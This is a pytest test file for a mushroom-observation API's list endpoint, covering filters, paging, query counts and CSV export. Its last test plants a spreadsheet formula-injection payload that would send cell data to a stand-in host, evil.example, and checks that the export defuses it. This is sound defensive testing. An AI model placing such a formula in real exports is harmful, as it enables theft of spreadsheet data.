"""`GET /observations`: filters, pages, CSV, and how many queries they take."""

import csv
import io
from urllib.parse import urlencode

import pytest
from rest_framework.test import APIClient

from common import spreadsheets as common_spreadsheets
from observations.api import spreadsheets
from observations.models import Observation
from observations.services import names_add, photos_add
from tests.support.api import error_of
from tests.support.observations import OBSERVATIONS
from tests.support.rows import answered_prediction, version_row

pytestmark = pytest.mark.django_db


def listed(client: APIClient, **query: object) -> list[int]:
    response = client.get(f"{OBSERVATIONS}?{urlencode(query)}")
    assert response.status_code == 200, response.json()
    return [row["id"] for row in response.json()["results"]]


def test_filters_choose_observations_and_combine(
    alice: APIClient, production, rows: list[Observation]
) -> None:
    plain, agreed, elsewhere, pending = [row.pk for row in rows]
    assert listed(alice) == [pending, elsewhere, agreed, plain]
    assert listed(alice, verdict="supported") == [plain]
    assert listed(alice, verdict="not_covered") == [plain]
    assert listed(alice, decision="agree") == [agreed]
    assert listed(alice, source="own") == [pending, agreed, plain]
    assert listed(alice, source="mushroom_observer") == [elsewhere]
    assert listed(alice, source="queue") == []
    assert listed(alice, proposed="aleuria_aurantia (Pers.) Fuckel") == [agreed, plain]
    assert listed(alice, proposed="Peziza aurantia") == [agreed, plain], "a synonym of it"
    assert listed(alice, proposed="amanita") == [pending, plain]
    assert listed(alice, proposed="Peziza aurantia", verdict="supported") == [plain]
    assert listed(alice, proposed="Amanita", verdict="supported") == [], "another name has it"
    assert listed(alice, decision="agree", verdict="contradicted") == []
    assert listed(alice, created_after="2020-01-01T00:00:00Z", page_size=2) == [pending, elsewhere]


def test_source_is_told(alice: APIClient, rows: list[Observation]) -> None:
    sources = [row["source"] for row in alice.get(OBSERVATIONS).json()["results"]]
    there = {"mushroom_observer": 7, "url": "https://mushroomobserver.org/observations/7"}
    there |= {"read_at": None, "seen": ""}
    assert sources == [None, there, None, None]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("verdict", "right"), ("verdict", ""), ("decision", "none"), ("source", "elsewhere")),
        *(("proposed", "12"), ("proposed", "a\0b"), ("proposed", "x" * 251)),
        *(("created_after", "yesterday"), ("page_size", "0"), ("page_size", "101")),
        *(("cursor", "x"), ("cursor", str(2**63))),
    ],
)
@pytest.mark.parametrize("accept", ["application/json", "text/csv"])
def test_a_malformed_filter_is_refused_and_named(
    alice: APIClient, name: str, value: str, accept: str
) -> None:
    if accept == "text/csv" and name == "page_size":
        pytest.skip("CSV has no pages")
    response = alice.get(f"{OBSERVATIONS}?{urlencode({name: value})}", headers={"Accept": accept})
    assert response.status_code == 400
    assert response.headers["Content-Type"] == "application/json"
    assert [error["attr"] for error in response.json()["errors"]] == [name]


def test_an_unknown_parameter_or_format_is_refused(alice: APIClient) -> None:
    assert alice.get(f"{OBSERVATIONS}?verdicts=supported").status_code == 400
    assert error_of(alice.get(f"{OBSERVATIONS}?format=xml")) == (404, "not_found")


def test_following_next_sees_every_observation_once(alice: APIClient, rows) -> None:
    url: str | None = f"{OBSERVATIONS}?page_size=1&source=own"
    pages = []
    while url:
        page = alice.get(url).json()
        assert set(page) == {"next", "results"}
        pages += [[row["id"] for row in page["results"]]]
        url = page["next"]
    assert pages == [[row.pk] for row in (rows[3], rows[1], rows[0])]


def test_a_list_takes_as_many_queries_for_any_number_of_rows(
    alice: APIClient, users, rows, django_assert_num_queries
) -> None:
    version = version_row()
    for number in range(8):
        observation = Observation.objects.create(user=users["alice"])
        names_add(observation=observation, proposed=["Amanita muscaria"])
        predictions = [answered_prediction(number + part, version) for part in (0.25, 0.75)]
        photos_add(observation=observation, predictions=predictions)
    # The token with its user, what the queue gave, the observations, their photos, predictions and
    # names; for the links of one from Mushroom Observer the accepted names.
    with django_assert_num_queries(7):
        results = alice.get(OBSERVATIONS).json()["results"]
    assert len(results) == 12
    assert [len(row["photos"]) for row in results] == [*[2] * 8, *[0] * 4]
    with django_assert_num_queries(6):
        assert alice.get(f"{OBSERVATIONS}/{results[0]['id']}").status_code == 200


def table(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_the_list_comes_as_csv(alice: APIClient, rows: list[Observation], monkeypatch) -> None:
    monkeypatch.setattr(spreadsheets, "PORTION", 1)
    for response in (
        alice.get(f"{OBSERVATIONS}?format=csv"),
        alice.get(OBSERVATIONS, headers={"Accept": "text/csv"}),
    ):
        assert [row["id"] for row in table(response)] == [str(row.pk) for row in rows[::-1]]
    [row] = table(alice.get(f"{OBSERVATIONS}?format=csv&verdict=supported"))
    assert row | {"created_at": ""} == {
        **{"id": str(rows[0].pk), "status": "done", "created_at": "", "source": "own", "url": ""},
        **{"photos": "", "best_species": "Aleuria aurantia", "best_score": "80.0"},
        **{"in_scope": "True", "scope_score": "97.0"},
        **{"plausible": "Aleuria aurantia | Amanita muscaria"},
        **{"proposed": "Peziza aurantia | Amanita", "verdicts": "supported | not_covered"},
        **{"name_scores": "50.0 | ", "decision": "", "decision_name": "", "note": ""},
        **{"decided_at": "", "error": ""},
    }
    assert len(table(alice.get(f"{OBSERVATIONS}?format=csv&cursor={rows[1].pk}"))) == 1
    with monkeypatch.context() as patch:
        patch.setattr(common_spreadsheets, "MAX_ROWS", 2)
        assert len(table(alice.get(f"{OBSERVATIONS}?format=csv"))) == 2
    monkeypatch.setattr(common_spreadsheets, "MAX_CHARACTERS", 700)
    assert len(table(alice.get(f"{OBSERVATIONS}?format=csv"))) in (1, 2, 3)


def test_csv_shows_nobody_elses_observations(alice: APIClient, bob: APIClient, rows, users):
    Observation.objects.create(user=users["clementine"])
    assert len(table(alice.get(f"{OBSERVATIONS}?format=csv"))) == 4
    assert len(table(bob.get(f"{OBSERVATIONS}?format=csv"))) == 5


def test_a_note_is_no_formula_in_a_spreadsheet(alice: APIClient, users) -> None:
    note = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    Observation.objects.create(user=users["alice"], note=note)
    [row] = table(alice.get(f"{OBSERVATIONS}?format=csv"))
    assert row["note"] == f"'{note}"
